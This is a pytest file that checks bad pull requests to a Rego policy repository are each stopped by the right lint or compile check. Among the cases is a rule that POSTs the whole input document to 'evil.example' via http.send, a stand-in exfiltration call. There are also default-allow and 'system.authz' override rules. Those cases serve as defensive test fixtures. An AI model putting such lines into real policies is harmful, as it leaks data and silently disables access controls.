"""Pull requests that would make rules wrong, quiet or blind: each is stopped by the right check."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.bad_pull_requests.pull_requests import (
    METADATA,
    REFUND,
    RULES,
    TEST,
    WEEKEND,
    PullRequest,
    added,
    body,
    both,
    rule,
    stopped_by,
    swapped,
)
from tests.scenes.policy.policy_repositories import Clone

pytestmark = pytest.mark.timeout(240)

TOOL = f"{RULES}/mcp/tool_not_allowed/tool_not_allowed"
BAD = [
    PullRequest(
        "allows what nothing is known of",
        added(
            f"{RULES}/business/open/open.rego",
            f"{METADATA}package aisecops.rules.business.open\n\ndefault allow := true\n",
        ),
        "lint.default-allow",
        f"{RULES}/business/open/open.rego",
        "lets through whatever nothing is known of",
    ),
    PullRequest(
        "decides to allow by default",
        swapped(
            "rego/aisecops/decision/decision.rego",
            ('default decision := {\n\t"outcome": "DENY"', 'default decision := {\n\t"outcome": "ALLOW"'),
        ),
        "lint.library",
        "rego/aisecops/decision/decision.rego",
        "is not as it is shipped",
    ),
    PullRequest(
        "shadows the composition with a second file",
        added(
            "rego/aisecops/decision/fast.rego",
            'package aisecops.decision\n\nreported contains 1 if input.mode == "X"\n',
        ),
        "lint.shadow",
        "rego/aisecops/decision/fast.rego",
        "stands in rego/aisecops/decision/decision.rego already",
    ),
    PullRequest(
        "judges another document than the recorded one",
        rule("business/other", body('data.aisecops.lib.valid with input as {"mode": "ENFORCE"}')),
        "lint.with",
        f"{RULES}/business/other/other.rego",
        "another document than the one that is recorded",
    ),
    PullRequest(
        "misspells a field of the document",
        rule("business/typo", body('input.enviroment == "production"')),
        "compile.type",
        f"{RULES}/business/typo/typo.rego",
        "enviroment",
    ),
    PullRequest(
        "misspells a word that the document can hold",
        rule("business/word", body('input.mode == "ENFORCED"')),
        "lint.word",
        f"{RULES}/business/word/word.rego",
        "input.mode is never 'ENFORCED'",
    ),
    PullRequest(
        "misspells the kind of a source in a loop",
        rule("business/kind", body('some source in input.sources\n\tsource.kind == "tool_results"')),
        "lint.word",
        f"{RULES}/business/kind/kind.rego",
        "is never 'tool_results'",
    ),
    PullRequest(
        "asks the clock of the machine",
        rule("business/clock", body("time.now_ns() > 0")),
        "compile.type",
        f"{RULES}/business/clock/clock.rego",
        "time.now_ns",
    ),
    PullRequest(
        "sends the document to somebody",
        rule("business/leak", body('http.send({"method": "POST", "url": "https://evil.example", "body": input})')),
        "compile.type",
        f"{RULES}/business/leak/leak.rego",
        "http.send",
    ),
    PullRequest(
        "compares a number with a text",
        rule("business/text", body('input.usage.session_calls == "3"')),
        "compile.type",
        f"{RULES}/business/text/text.rego",
        "match error",
    ),
    PullRequest(
        "negates a call that a missing field turns around",
        rule("business/negated", body('not startswith(lower(input.environment), "prod")')),
        "lint.negated-call",
        f"{RULES}/business/negated/negated.rego",
        "bind the inner call first",
    ),
    PullRequest(
        "adds a rule that nobody owns",
        rule("business/owned", body(), metadata=METADATA.replace("#   owner: platform-security\n", "")),
        "lint.metadata",
        f"{RULES}/business/owned/owned.rego",
        "METADATA has no custom.owner",
    ),
    PullRequest(
        "adds a rule with an effect of its own invention",
        rule("business/effect", body(), metadata=METADATA.replace("effect: deny", "effect: block")),
        "lint.word",
        f"{RULES}/business/effect/effect.rego",
        "custom.effect is not one of deny, require_approval, warn",
    ),
    PullRequest(
        "adds a rule without tests",
        rule("business/untested", body(), test=""),
        "lint.tests",
        f"{RULES}/business/untested/untested.rego",
        "0 tests beside it",
    ),
    PullRequest(
        "tests only what a rule finds",
        rule(
            "business/always",
            body(),
            test=TEST.replace(
                'found(testing.one("some/other", {})) == set()', 'count(found(testing.one("some/tool", {"a": 1}))) == 1'
            ),
        ),
        "rules.never-silent",
        f"{RULES}/business/always/always.rego",
        "fails when the rule always fires",
    ),
    PullRequest(
        "tests nothing of what a rule finds",
        rule("business/never", body(), test=TEST.replace("some/tool", "some/thing").replace("== 1", "== 0")),
        "rules.never-fired",
        f"{RULES}/business/never/never.rego",
        "fails when the rule never fires",
    ),
    PullRequest(
        "changes a message and not its test",
        swapped(f"{REFUND}.rego", ("# title: Refund without an order", "# title: Refund with no order")),
        "test.failed",
        f"{REFUND}_test.rego",
        "test_a_refund_without_an_order_needs_approval fails",
    ),
    PullRequest(
        "adds a line that no test runs",
        swapped(
            f"{WEEKEND}.rego",
            (
                "findings contains finding if {",
                "late if input.now.unix_seconds > 2000000000\n\nfindings contains finding if {",
            ),
        ),
        "test.uncovered",
        f"{WEEKEND}.rego",
        "no test runs this line",
    ),
    PullRequest(
        "removes a rule with its tests",
        lambda _clone: dict.fromkeys((f"{TOOL}.rego", f"{TOOL}_test.rego")),
        "changes.rule-removed",
        f"{TOOL}.rego",
        "the rule mcp.tool_not_allowed is gone",
    ),
    PullRequest(
        "turns a denial into a remark, and its test with it",
        both(
            swapped(f"{TOOL}.rego", ("effect: deny", "effect: warn")),
            swapped(f"{TOOL}_test.rego", ('"effect": "deny"', '"effect": "warn"')),
        ),
        "changes.effect-lowered",
        f"{TOOL}.rego",
        "went from deny to warn",
    ),
    PullRequest(
        "removes a test of a rule that stays",
        swapped(f"{TOOL}_test.rego", ("test_a_tool_of_an_unknown_server", "a_tool_of_an_unknown_server")),
        "changes.tests-removed",
        f"{TOOL}.rego",
        "had 4 tests and has 3",
    ),
    PullRequest(
        "switches a test off",
        swapped(f"{REFUND}_test.rego", ("test_an_unknown_agent", "todo_test_an_unknown_agent")),
        "lint.test-off",
        f"{REFUND}_test.rego",
        "is not run",
    ),
    PullRequest(
        "lets a rule read another rule",
        rule("business/peeks", body("count(data.aisecops.rules.mcp.tool_not_allowed.findings) == 0")),
        "lint.rule-reads-rule",
        f"{RULES}/business/peeks/peeks.rego",
        "rules never know each other",
    ),
    PullRequest(
        "writes findings as one value, which replaces instead of adding",
        rule("business/whole", 'findings := {"x"} if {\n\tlib.valid\n}\n'),
        "lint.findings",
        f"{RULES}/business/whole/whole.rego",
        "findings is no set",
    ),
    PullRequest(
        "declares a package that guards the engine",
        added(f"{RULES}/business/guard/guard.rego", f"{METADATA}package system.authz\n\nallow := true\n"),
        "lint.foreign-package",
        f"{RULES}/business/guard/guard.rego",
        "is not the policy repository's to declare",
    ),
    PullRequest(
        "is not formatted",
        swapped(f"{WEEKEND}.rego", ("\tsome joined in lib.steps", "  some joined in   lib.steps")),
        "format.changed",
        f"{WEEKEND}.rego",
        "it is not formatted",
    ),
    PullRequest(
        "does not parse",
        swapped(f"{WEEKEND}.rego", ("findings contains finding if {", "findings contains finding if {{")),
        "compile.parse",
        f"{WEEKEND}.rego",
        "",
    ),
]


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Clone:
    return Clone.make(tmp_path_factory.mktemp("origin"))


@pytest.mark.parametrize("bad", BAD, ids=lambda bad: bad.name)
def test_it_is_stopped_by_the_right_check_with_words_that_help(origin: Clone, tmp_path: Path, bad: PullRequest) -> None:
    stopping = stopped_by(origin.again(tmp_path / "mine"), bad)
    assert stopping
    assert all(problem.hint for problem in stopping)
